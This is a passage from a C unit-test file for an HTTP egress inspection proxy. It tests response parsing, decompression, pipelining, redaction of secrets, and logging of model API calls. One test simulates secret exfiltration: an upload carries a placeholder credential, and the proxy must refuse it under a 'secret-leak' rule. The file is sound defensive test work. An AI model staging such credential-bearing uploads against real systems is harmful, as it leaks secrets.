			assert_true(has(&c.down, "Transfer-Encoding: chunked\r\n"));
		}
		conn_close(&c);
	}
}

static void test_redact_identity(void **state)
{
	(void)state;
	check_redaction(F_CL, NULL, 0, 0);
	check_redaction(F_CHUNKED, NULL, 0, 0);
	check_redaction(F_CLOSE, NULL, 0, 0);
}

static void test_redact_coded(void **state)
{
	(void)state;
	check_redaction(F_CL, "gzip", 16 + MAX_WBITS, 16 + MAX_WBITS);
	check_redaction(F_CHUNKED, "x-gzip", 16 + MAX_WBITS, 16 + MAX_WBITS);
	check_redaction(F_CLOSE, "gzip", 16 + MAX_WBITS, 16 + MAX_WBITS);
	check_redaction(F_CL, "deflate", MAX_WBITS, MAX_WBITS);
	check_redaction(F_CHUNKED, "deflate", -MAX_WBITS, MAX_WBITS); /* raw deflate, as some servers send */
}

static void test_response_errors(void **state)
{
	(void)state;
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		/* F2: a status below 100 is never relayed. */
		open_get(&c, "GET");
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 099 Odd\r\nContent-Length: 5\r\n\r\n" VALUE, splits[s]),
				 -EPROTO);
		assert_int_equal(buf_len(&c.down), 0);
		assert_false(egress_insp_response_started(c.h));
		assert_int_equal(egress_insp_refusal(c.h)->status, 502);
		assert_string_equal(egress_insp_refusal(c.h)->rule, "bad-response");
		assert_non_null(strstr(egress_insp_refusal(c.h)->message, "below 100"));
		assert_null(strstr(egress_insp_refusal(c.h)->message, VALUE));
		conn_close(&c);
		/* A coding the proxy cannot read. */
		open_get(&c, "GET");
		assert_int_equal(
			origin_send_str(&c, "HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 3\r\n\r\nabc",
					splits[s]),
			-EPROTO);
		assert_string_equal(egress_insp_refusal(c.h)->rule, "response-encoding");
		assert_int_equal(buf_len(&c.down), 0);
		conn_close(&c);
		/* 100 Continue goes, then a bad second status line. */
		open_get(&c, "GET");
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 2x0 OK\r\n\r\n", splits[s]),
				 -EPROTO);
		assert_true(egress_insp_response_started(c.h));
		conn_close(&c);
		/* Bytes no request asked for; a close inside a body. */
		conn_open(&c, "api.github.com", 443, true, false);
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 200 OK\r\n\r\n", splits[s]), -EPROTO);
		conn_close(&c);
		open_get(&c, "GET");
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nabc", splits[s]), 0);
		assert_int_equal(egress_insp_response_eof(c.h, &c.down), -EPROTO);
		conn_close(&c);
		/* A gzip body that does not decode. */
		open_get(&c, "GET");
		assert_int_equal(
			origin_send_str(&c,
					"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 6\r\n\r\nnotgz!",
					splits[s]),
			-EPROTO);
		conn_close(&c);
	}
}

/* HEAD, 204 and 304 have no body: the next response follows at once. Pipelined answers in order. */
static void test_pipeline(void **state)
{
	static const char reqs[] = "HEAD /a HTTP/1.1\r\n" H_T "\r\n"
				   "GET /b HTTP/1.1\r\n" H_T "\r\n"
				   "GET /c HTTP/1.1\r\n" H_T "\r\n"
				   "DELETE /d HTTP/1.1\r\n" H_T "Connection: close\r\n\r\n";
	static const char resps[] = "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n"
				    "HTTP/1.1 304 Not Modified\r\nContent-Length: 7\r\n\r\n"
				    "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nccc\r\n0\r\n\r\n"
				    "HTTP/1.1 204 No Content\r\n\r\n"
				    "HTTP/1.1 200 OK\r\n\r\nafter close";
	(void)state;

	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "api.github.com", 443, true, true);
		assert_int_equal(box_send_str(&c, reqs, splits[s]), 0);
		assert_true(has(&c.up, "DELETE /d HTTP/1.1"));
		assert_int_equal(origin_send_str(&c, resps, splits[s]), 0);
		assert_true(egress_insp_done(c.h));
		assert_false(has(&c.down, "after close"));
		assert_int_equal(c.n_ev, 4);
		assert_string_equal(c.ev[0].path, "/a");
		assert_string_equal(c.ev[0].method, "HEAD");
		assert_int_equal(c.ev[1].status, 304);
		assert_string_equal(c.ev[2].path, "/c");
		assert_int_equal(c.ev[2].bytes_down, 3);
		assert_int_equal(c.ev[3].status, 204);
		assert_string_equal(c.ev[3].method, "DELETE");
		const uint8_t *p = buf_ptr(&c.down);
		const uint8_t *a = memmem(p, buf_len(&c.down), "304", 3), *b = memmem(p, buf_len(&c.down), "ccc", 3),
			      *d = memmem(p, buf_len(&c.down), "204", 3);
		assert_true(a && b && d && a < b && b < d);
		conn_close(&c);
	}
}

/* At most EGRESS_INSP_PIPELINE_MAX requests wait for answers; the next is read after one. */
static void test_pipeline_max(void **state)
{
	char one[64];
	struct buf all;
	struct conn c;
	size_t used, off = 0;
	(void)state;

	assert_int_equal(buf_init(&all, 1 << 16, 0), 0);
	(void)snprintf(one, sizeof(one), "GET / HTTP/1.1\r\n" H_T "\r\n");
	for (int i = 0; i < EGRESS_INSP_PIPELINE_MAX + 1; i++) {
		assert_int_equal(buf_put(&all, one, strlen(one)), 0);
	}
	conn_open(&c, "api.github.com", 443, true, false);
	assert_int_equal(egress_insp_request(c.h, buf_ptr(&all), buf_len(&all), &used, &c.up), 0);
	assert_int_equal(used, EGRESS_INSP_PIPELINE_MAX * strlen(one));
	off = used;
	assert_int_equal(origin_send_str(&c, "HTTP/1.1 204 No Content\r\n\r\n", 0), 0);
	assert_int_equal(egress_insp_request(c.h, buf_ptr(&all) + off, buf_len(&all) - off, &used, &c.up), 0);
	assert_int_equal(used, strlen(one));
	conn_close(&c);
	buf_release(&all);
}

/* ---- model calls ---- */

static void model_exchange(const char *resp_head, const char *body, int zbits, size_t split,
			   struct egress_insp_event *ret)
{
	static const char req[] = "POST /v1/messages?beta=true HTTP/1.1\r\nHost: api.anthropic.com\r\n"
				  "x-api-key: " PH2 "\r\nContent-Length: 17\r\n\r\n{\"max_tokens\":64}";
	uint8_t coded[8192], wire[16384];
	size_t cn = strlen(body), wn = 0;
	struct conn c;

	conn_open(&c, "api.anthropic.com", 443, true, true);
	assert_int_equal(box_send_str(&c, req, split), 0);
	assert_int_equal(c.uses, 1);
	if (zbits) {
		cn = zcompress(body, strlen(body), zbits, coded, sizeof(coded));
	} else {
		memcpy(coded, body, cn);
	}
	wn = (size_t)snprintf((char *)wire, sizeof(wire), "%sContent-Length: %zu\r\n\r\n", resp_head, cn);
	memcpy(wire + wn, coded, cn);
	wn += cn;
	assert_int_equal(origin_send(&c, wire, wn, split), 0);
	assert_int_equal(c.n_ev, 2);
	assert_int_equal(c.ev[1].type, EGRESS_INSP_MODEL_CALL);
	*ret = c.ev[1];
	conn_close(&c);
}

static void test_model_calls(void **state)
{
	static const char json[] =
		"{\"id\":\"msg_1\",\"type\":\"message\",\"model\":\"claude-sonnet-4-5\",\"content\":[],"
		"\"usage\":{\"input_tokens\":25,\"output_tokens\":11}}";
	static const char sse[] =
		"event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-opus-4\","
		"\"usage\":{\"input_tokens\":472,\"output_tokens\":2}}}\n\n"
		"event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"hi\"}}\n\n"
		"event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":15}}\n\n"
		"event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n";
	static const char openai[] = "{\"id\":\"c\",\"model\":\"gpt-4o-2024-08-06\",\"choices\":[],"
				     "\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":12,\"total_tokens\":21}}";
	struct egress_insp_event e;
	(void)state;

	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		model_exchange("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", json, 0, splits[s], &e);
		assert_string_equal(e.method, "POST");
		assert_string_equal(e.path, "/v1/messages");
		assert_int_equal(e.status, 200);
		assert_int_equal(e.bytes_up, 17);
		assert_int_equal(e.bytes_down, strlen(json));
		assert_string_equal(e.info.model, "claude-sonnet-4-5");
		assert_int_equal(e.info.input_tokens, 25);
		assert_int_equal(e.info.output_tokens, 11);
		model_exchange("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream; charset=utf-8\r\n", sse, 0,
			       splits[s], &e);
		assert_string_equal(e.info.model, "claude-opus-4");
		assert_int_equal(e.info.input_tokens, 472);
		assert_int_equal(e.info.output_tokens, 15);
		/* Counted from the decoded body. */
		model_exchange("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n",
			       openai, 16 + MAX_WBITS, splits[s], &e);
		assert_string_equal(e.info.model, "gpt-4o-2024-08-06");
		assert_int_equal(e.info.input_tokens, 9);
		assert_int_equal(e.info.output_tokens, 12);
		assert_int_equal(e.bytes_down, strlen(openai));
	}
}

/* Not a model host: no model events. */
static void test_no_model(void **state)
{
	struct conn c;
	(void)state;

	open_get(&c, "GET");
	assert_int_equal(origin_send_str(&c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", 0), 0);
	assert_int_equal(c.n_ev, 1); /* the USE only */
	conn_close(&c);
}

/*
 * Large bodies through an out buffer the size a caller gives (EGRESS_INSP_OUT_MAX), drained after each call as a
 * socket would: no call appends more than EGRESS_INSP_OUT_MAX, everything arrives, and the value does not.
 */
static void pump_origin(struct conn *c, const uint8_t *p, size_t n, struct buf *sink)
{
	struct buf out;
	size_t off = 0, used, idle = 0;

	assert_int_equal(buf_init(&out, EGRESS_INSP_OUT_MAX, BUF_SECRET), 0);
	while (off < n || idle < 2) {
		size_t k = MIN((size_t)65536, n - off);
		assert_int_equal(egress_insp_response(c->h, p + off, k, &used, &out), 0);
		drain_events(c);
		assert_true(buf_len(&out) <= EGRESS_INSP_OUT_MAX);
		idle = off == n && buf_len(&out) == 0 ? idle + 1 : 0;
		off += used;
		assert_int_equal(buf_put(sink, buf_ptr(&out), buf_len(&out)), 0);
		buf_reset(&out);
	}
	buf_release(&out);
}

static void test_large_bodies(void **state)
{
	size_t n = (size_t)4 << 20, zn;
	char *body = malloc(n);
	uint8_t *z = malloc(n), got[64];
	struct buf sink;
	struct conn c;
	char head[128];
	(void)state;

	assert_non_null(body);
	assert_non_null(z);
	for (size_t i = 0; i < n; i++) {
		body[i] = (char)('a' + i % 23);
	}
	for (size_t at = 1000; at + 64 < n; at += 300007) {
		memcpy(body + at, VALUE, strlen(VALUE));
	}
	assert_int_equal(buf_init(&sink, (size_t)16 << 20, BUF_SECRET), 0);
	/* Identity, Content-Length: the same length, no value. */
	open_get(&c, "GET");
	int hn = snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", n);
	assert_int_equal(egress_insp_response(c.h, (const uint8_t *)head, (size_t)hn, &(size_t){ 0 }, &sink), 0);
	pump_origin(&c, (const uint8_t *)body, n, &sink);
	assert_int_equal(buf_len(&sink), (size_t)hn + n);
	assert_no_value(buf_ptr(&sink), buf_len(&sink));
	conn_close(&c);
	buf_reset(&sink);
	/* gzip of mostly zeros (a small wire, a large body): decoded and encoded in bounded steps. */
	memset(body, 0, n);
	memcpy(body + n - 100, VALUE, strlen(VALUE));
	zn = zcompress(body, n, 16 + MAX_WBITS, z, n);
	open_get(&c, "GET");
	hn = snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
		      zn);
	assert_int_equal(egress_insp_response(c.h, (const uint8_t *)head, (size_t)hn, &(size_t){ 0 }, &sink), 0);
	pump_origin(&c, z, zn, &sink);
	{
		struct conn v = c;
		v.down = sink;
		uint8_t *dec = malloc(n + 1);
		assert_non_null(dec);
		assert_int_equal(box_body(&v, true, 16 + MAX_WBITS, dec, n + 1), n);
		assert_no_value(dec, n);
		memcpy(got, dec + n - 100, 8);
		assert_int_equal(got[0], egress_leak_marker(leak));
		free(dec);
	}
	conn_close(&c);
	/* A large upload with a placeholder near its end: refused before that part goes. */
	for (size_t i = 0; i < n; i++) {
		body[i] = (char)('a' + i % 23);
	}
	memcpy(body + n - 200, PH, strlen(PH));
	conn_open(&c, "api.github.com", 443, true, false);
	hn = snprintf(head, sizeof(head), "PUT /big HTTP/1.1\r\n" H_T "Content-Length: %zu\r\n\r\n", n);
	assert_int_equal(box_send(&c, head, (size_t)hn, 0), 0);
	{
		size_t off = 0, used;
		int r = 0;
		while (r == 0 && off < n) {
			r = egress_insp_request(c.h, (const uint8_t *)body + off, n - off, &used, &c.up);
			off += used;
			buf_reset(&c.up);
		}
		assert_int_equal(r, -EACCES);
		assert_string_equal(egress_insp_refusal(c.h)->rule, "secret-leak");
		assert_true(off <= n - 200 + strlen(PH));
	}
	conn_close(&c);
	buf_release(&sink);
	free(body);
	free(z);
}

/* 100 Continue goes to the box before the final answer; the exchange goes on. */
static void test_interim(void **state)
{
	(void)state;
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "api.github.com", 443, true, false);
		assert_int_equal(
			box_send_str(&c, "POST / HTTP/1.1\r\n" H_T "Expect: 100-continue\r\nContent-Length: 2\r\n\r\n",
				     splits[s]),
			0);
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 100 Continue\r\n\r\n", splits[s]), 0);
		assert_true(egress_insp_response_started(c.h));
		assert_int_equal(box_send_str(&c, "ok", splits[s]), 0);
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n", splits[s]),
				 0);
		assert_false(egress_insp_response_started(c.h));
		assert_true(has(&c.down, "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 201 Created\r\n"));
		assert_false(egress_insp_done(c.h));
		assert_int_equal(egress_insp_response_eof(c.h, &c.down), 0);
		conn_close(&c);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_swap_waits_for_use), cmocka_unit_test(test_swap_refused),
		cmocka_unit_test(test_swap_refused_two),   cmocka_unit_test(test_swap_only_bound),
		cmocka_unit_test(test_leaks_tunnel),	   cmocka_unit_test(test_leaks_plain),
		cmocka_unit_test(test_body_clean),	   cmocka_unit_test(test_request_rules),
		cmocka_unit_test(test_accept_encoding),	   cmocka_unit_test(test_absolute),
		cmocka_unit_test(test_redact_identity),	   cmocka_unit_test(test_redact_coded),
		cmocka_unit_test(test_response_errors),	   cmocka_unit_test(test_pipeline),
		cmocka_unit_test(test_pipeline_max),	   cmocka_unit_test(test_model_calls),
		cmocka_unit_test(test_large_bodies),	   cmocka_unit_test(test_interim),
		cmocka_unit_test(test_no_model),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
